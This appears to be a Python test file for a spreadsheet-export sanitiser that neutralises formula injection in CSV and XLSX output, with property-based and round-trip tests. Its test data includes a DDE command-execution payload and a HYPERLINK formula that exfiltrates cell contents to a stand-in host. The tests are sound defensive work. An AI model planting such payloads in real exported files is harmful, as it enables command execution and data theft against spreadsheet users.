"""Every text of a table that leaves is words to a spreadsheet; figures stay figures. Read back as written."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from equity_metrics.exports import About, formats, inert, table_formats
from equity_metrics.text import Text, same

FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1",
    "＠A1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060@A1", '=HYPERLINK("http://127.0.0.1:9/?d="&B2,"x")',
    "-1 OR 1", "+3 A1", "-๑", "=1",
)  # fmt: skip
FIGURES = ("-5", "+3.4", "-1,640,000", "-2.0%", "12")


@pytest.mark.parametrize("words", FORMULAS)
def test_a_formula_is_made_words(words: str) -> None:
    assert inert(words) == f"'{words}"


@pytest.mark.parametrize("words", [*FIGURES, "ศพด.บ้านสมมติ", "a=b", "'=1", "", "–"])
def test_figures_and_other_words_stay(words: str) -> None:
    assert inert(words) == words


@pytest.mark.parametrize("value", [-5, -0.5, 3, None])
def test_a_number_is_no_words(value: object) -> None:
    assert inert(value) is value


@given(
    st.text(" \t\u00a0\u200b\ufeff", max_size=4),
    st.sampled_from("=+-@＝＋－＠"),
    st.text(max_size=9),
)
def test_nothing_before_the_sign_hides_it(before: str, sign: str, after: str) -> None:
    said = f"{before}{sign}{after}x"
    assert inert(said) == f"'{said}"


def _table() -> tuple[pd.DataFrame, About]:
    content = pd.DataFrame(
        {"=1+1": list(FORMULAS), "n": [-float(nth) / 2 for nth in range(len(FORMULAS))]}
    )
    return content, About(((Text(th="ชื่อ", en="Title"), same("=1+1")), (same("x"), same("@x"))))


def test_every_format_is_tried_here() -> None:
    assert set(table_formats()) <= {"csv", "xlsx"} <= set(formats())


def test_a_csv_read_back_has_words_and_figures() -> None:
    content, about = _table()
    text = formats()["csv"].write_table(content, 1, "en", about).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[1] for row in rows[:2]] == ["'=1+1", "'@x"]
    assert rows[3] == ["'=1+1", "n"]
    assert [row[0] for row in rows[4:]] == [f"'{each}" for each in FORMULAS]
    assert [float(row[1]) for row in rows[4:]] == list(content["n"])


def test_a_workbook_read_back_has_words_and_figures() -> None:
    content, about = _table()
    made = formats()["xlsx"].write_table(content, 1, "en", about)
    rows = list(openpyxl.load_workbook(io.BytesIO(made)).active.iter_rows())  # type: ignore[union-attr]
    texts = [row[0] for row in rows[4:]]
    assert [cell.data_type for cell in texts] == ["s"] * len(FORMULAS)
    assert all(str(cell.value).startswith("'") for cell in texts)
    assert [row[1].value for row in rows[4:]] == list(content["n"])
    assert {row[1].data_type for row in rows[4:]} == {"n"}
    assert not [cell for row in rows for cell in row if cell.hyperlink]
